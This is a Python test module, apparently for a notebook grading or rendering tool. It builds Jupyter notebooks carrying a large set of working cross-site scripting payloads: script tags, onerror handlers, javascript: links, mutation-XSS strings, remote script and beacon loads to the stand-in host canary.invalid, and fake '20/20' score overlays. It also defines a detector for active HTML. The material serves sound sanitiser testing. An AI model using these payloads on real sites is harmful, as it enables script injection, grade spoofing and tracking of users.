"""What a stranger's notebook may carry to act on the page that shows it, and how to see on a page whether it can."""
# ruff: noqa: E501 (an attack reads best whole)

import base64
import io
from collections import Counter

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from PIL import Image
from selectolax.lexbor import LexborHTMLParser

RUN = "document.title='pwned';new Image().src='http://canary.invalid/ran'"

# Put in every place of a notebook that may hold HTML.
HTML = {
    "script": f"<script>{RUN}</script>",
    "remote script": "<script src='http://canary.invalid/s.js'></script>",
    "image that fails": f'<img src="x.nothing" onerror="{RUN}">',
    "tracking picture": '<img src="http://canary.invalid/pixel.png">',
    "tracking picture without scheme": '<img src="//canary.invalid/pixel.png">',
    "picture set": '<img srcset="http://canary.invalid/pixel.png 1x"><picture><source srcset="http://canary.invalid/pixel.png"><img></picture>',
    "javascript link": f'<a href="javascript:{RUN}">look</a>',
    "javascript link, disguised": f'<a href=" java\nscript:{RUN}">a</a><a href="&#1;javascript:{RUN}">b</a>',
    "javascript link behind files/": f'<a href="files/javascript:{RUN}">look</a>',
    "javascript link of Markdown": "[look](javascript:document.title='pwned') [look](<files/javascript:alert(1)>)",
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">look</a>',
    "link to a file handed in": '<a href="evil.html">look</a><a href="../../logout">leave</a>',
    "frame": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><iframe src='http://canary.invalid/frame'></iframe>",
    "object": "<object data='http://canary.invalid/o'></object><embed src='http://canary.invalid/e'><audio src='http://canary.invalid/a'></audio>",
    "video": f"<video src='http://canary.invalid/v' poster='http://canary.invalid/p' onloadstart=\"{RUN}\"></video>",
    "style element": "<style>@import 'http://canary.invalid/s.css'; .score {color: red} body {background: url(http://canary.invalid/b)}</style>",
    "style sheet": "<link rel=stylesheet href='http://canary.invalid/s.css'><link rel=prefetch href='http://canary.invalid/p'>",
    "style that covers the page": '<div style="position:fixed;inset:0;z-index:9999;background:url(http://canary.invalid/b)">20/20</div>',
    "style with margins": '<p style="margin-top:-400px;transform:scale(9);opacity:0.1">20/20</p>',
    "classes of the page": '<div class="navbar-fixed-top panel score btn full-credit tabbable">Full credit</div>',
    "form": "<form action='http://canary.invalid/f' id='f'><button formaction='http://canary.invalid/b'>Save</button><textarea></textarea></form>",
    "input in the name of the page's": "<input class='score' id='test_f' value='4'><input type=image src='http://canary.invalid/i'>",
    "ids of the page": "<div id='test_f'>1</div><p id='statusmessage' name='top'>x</p>\n\n# statusmessage",
    "names of globals": "<img name='submission_id'><a id='base_url' name='base_url' href='http://canary.invalid'>x</a>",
    "refresh": "<meta http-equiv=refresh content=\"0;url='http://canary.invalid/m'\"><base href='http://canary.invalid/'>",
    "drawing": f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href='http://canary.invalid/i'/><use href='http://canary.invalid/u#x'/></svg>",
    "animated link": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>look</text></a></svg>',
    "mathematical link": '<math><mtext href="javascript:alert(1)">x</mtext><maction actiontype="statusline">y</maction>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation by template": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    "end of the page": "</div></div></div></body></html><script>alert(1)</script><!-- ",
    "comment": "<!--[if true]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    "text area": "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "handlers": "<details open ontoggle=alert(1)><p onfocus=alert(1) autofocus tabindex=1 contenteditable>x</p></details>",
    "data attributes": '<p data-link="x" data-toggle="tooltip" data-html="true" title="<img src=x onerror=alert(1)>">x</p>',
    "custom element": "<x-y onclick=alert(1)>z</x-y><marquee onstart=alert(1)>m</marquee><plaintext>",
    "old attributes": "<table background='http://canary.invalid/t'><td background='http://canary.invalid/d'>x</table><body background='http://canary.invalid/y'>",
    "false picture": '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><img src="data:image/png,x">',
    "colours of code": '```html\n<script>alert(1)</script>\n```\n\n```x"onclick=alert(1)\ny\n```\n\n```mermaid\n<img src=x onerror=alert(1)>\n```',
    "formula": r"$\href{javascript:alert(1)}{x}$ $$<img src=x onerror=alert(1)>$$ \begin{a}<script>alert(1)</script>\end{a}",
    "half a tag": "<img src=x onerror=alert(1) //",
    "nothing left but a handler": "<b onmouseover=alert(1)",
}


def encoded(text):
    return base64.b64encode(text.encode()).decode()


def small_png():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 20), "green").save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def display(data, metadata=None):
    cell = new_code_cell("show()")
    cell.outputs = [new_output("display_data", data, metadata=metadata or {})]
    return cell


def with_metadata(cell, **metadata):
    cell.metadata.update(metadata)
    return cell


def with_attachments(attachments):
    cell = new_markdown_cell("![look](attachment:a) ![gone](attachment:b)")
    cell["attachments"] = attachments
    return cell


def error(text):
    cell = new_code_cell("fail()")
    cell.outputs = [new_output("error", ename=text, evalue=text, traceback=[text, f"\x1b[31m{text}\x1b[0;1m"])]
    return cell


SCRIPT = f"<script>{RUN}</script><img src=x onerror=alert(1)>"
DRAWN = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script><image href='http://canary.invalid/i'/></svg>"
GRADED = {"grade": True, "solution": True, "locked": False, "points": 1, "schema_version": 3}
WIDGET = "application/vnd.jupyter.widget-view+json"

# Single cells whose form, and not their HTML, is the attack.
CELLS = {
    "javascript output": display({"application/javascript": RUN}),
    "drawing output": display({"image/svg+xml": DRAWN}),
    "drawing that breaks out": display({"image/svg+xml": f'"><script>{RUN}</script>'}),
    "no picture": display({"image/png": f'"><script>{RUN}</script>', "image/jpeg": "x onerror=alert(1)"}),
    "picture with a width": display({"image/png": small_png()}, {"image/png": {"width": "1 onload=alert(1)"}}),
    "picture with a width for all": display({"image/png": small_png()}, {"width": "1 onload=alert(1)", "alt": SCRIPT}),
    "picture with an address": display(
        {"image/png": small_png()}, {"filenames": {"image/png": "http://canary.invalid/pixel.png"}}
    ),
    "unconfined picture": display({"image/png": small_png()}, {"unconfined": True}),
    "isolated output": display({"text/html": SCRIPT}, {"text/html": {"isolated": True}}),
    "formula output": display({"text/latex": SCRIPT + r"$\href{javascript:alert(1)}{x}$"}),
    "data output": display({"application/json": {"a": SCRIPT}}),
    "plot output": display({"application/vnd.vegalite.v5+json": {"$schema": SCRIPT}, "text/plain": SCRIPT}),
    "diagram output": display({"text/vnd.mermaid": f"graph TD; A[{SCRIPT}]"}),
    "widget output": display({WIDGET: {"model_id": "a", "x": f"</script>{SCRIPT}"}, "text/plain": SCRIPT}),
    "unknown type": display({f"x/{SCRIPT}": SCRIPT}),
    "stream": new_code_cell(
        "p", outputs=[new_output("stream", text=f"{SCRIPT}\x1b[31;<script>m{SCRIPT}\x1b]8;;x\x07")]
    ),
    "stream of another name": new_code_cell("p", outputs=[new_output("stream", name=SCRIPT, text=SCRIPT)]),
    "error": error(SCRIPT),
    "code": new_code_cell(f"{SCRIPT}\n%%html\n{SCRIPT}\n%%javascript\n{RUN}"),
    "raw HTML cell": with_metadata(new_raw_cell(SCRIPT), raw_mimetype="text/html"),
    "raw cell": new_raw_cell(SCRIPT),
    "tags": with_metadata(new_code_cell("x"), tags=['"><script>alert(1)</script>', "x score"]),
    "magics language": with_metadata(new_code_cell("%%x\ny"), magics_language=SCRIPT),
    "grade id": with_metadata(new_markdown_cell("x"), nbgrader={**GRADED, "grade_id": f'"><{SCRIPT}'}),
    "comment in the metadata": with_metadata(
        new_markdown_cell("x"), nbgrader={**GRADED, "grade_id": "answer", "points": SCRIPT, "comment": SCRIPT}
    ),
    "attachment": with_attachments({"a": {"image/svg+xml": f'"><script>{RUN}</script>'}}),
    "attachment of HTML": with_attachments({"a": {"text/html": encoded(SCRIPT)}}),
    "attachment that is missing": with_attachments({}),
}

# Metadata of the whole notebook.
NOTEBOOKS = {
    "title": {"title": SCRIPT},
    "language": {"language_info": {"name": f'x"><{SCRIPT}', "pygments_lexer": f'x"><{SCRIPT}', "mimetype": SCRIPT}},
    "widgets": {
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"x": f"</script>{SCRIPT}"}},
                "version_major": 2,
            }
        }
    },
    "widgets without state": {"widgets": {"x": 1}},
}


def everywhere(html):
    """A notebook with a piece of HTML in every place that may hold some."""
    answer = with_metadata(new_markdown_cell(html), nbgrader={**GRADED, "grade_id": "answer"})
    outputs = [
        display({"text/html": html}),
        display({"text/markdown": html}),
        display({"text/html": html.splitlines(True)}),
    ]
    return [new_markdown_cell(html), answer, new_raw_cell(html), new_code_cell(html), *outputs, error(html)]


def notebook(cells, metadata=None):
    """The cells behind an honest one, with nothing checked."""
    made = nbformat.v4.new_notebook(metadata=metadata or {})
    made.cells = [new_markdown_cell("Honest."), *cells]
    return nbformat.from_dict(made)


ADDRESSES = {"src", "href", "srcset", "action", "formaction", "poster", "background", "data", "xlink:href", "longdesc"}
ACTIVE = {"script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "form", "button", "textarea"}
ACTIVE |= {"svg", "math", "video", "audio", "source", "template", "noscript", "marquee", "title", "body", "html", "nav"}
HARMLESS_STYLES = {"text-align", "vertical-align", "white-space", "color", "background-color", "padding", "width"}
HARMLESS_STYLES |= {"contain", "overflow-x", "max-width", "font-weight", "font-style", "text-decoration"}
PAGE_CLASSES = {"score", "btn", "panel", "tabbable", "comment", "full-credit", "navbar-fixed-top", "unconfined"}


def doings(page):
    """Everything of a page that acts, loads, leads elsewhere, or is known by a name; parsed as browsers do."""
    found = Counter()
    for node in LexborHTMLParser(page).root.traverse():
        if node.tag in ACTIVE:
            found[node.tag, node.html if node.tag in ("script", "style") else ""] += 1
        for name, value in node.attributes.items():
            found.update(_doing(node.tag, name, value or ""))
    return found


def _doing(tag, name, value):
    if name.startswith(("on", "data-")) or name in ("srcdoc", "contenteditable", "autofocus", "tabindex", "http-equiv"):
        yield name, value
    elif name in ADDRESSES:
        picture = tag == "img" and value.startswith("data:image/") and ";base64," in value and '"' not in value
        link = tag == "a" and value.startswith(("#prose-", "http://", "https://"))
        if not (picture or link):
            yield name, value
    elif name in ("id", "name", "for") and not value.startswith(("prose-", "cell-id=")):
        yield name, value
    elif name == "class":
        yield from (("class", word) for word in value.split() if word in PAGE_CLASSES)
    elif name == "style":
        words = {part.partition(":")[0].strip() for part in value.split(";") if part.strip()}
        if not words <= HARMLESS_STYLES or "url" in value:
            yield "style", value
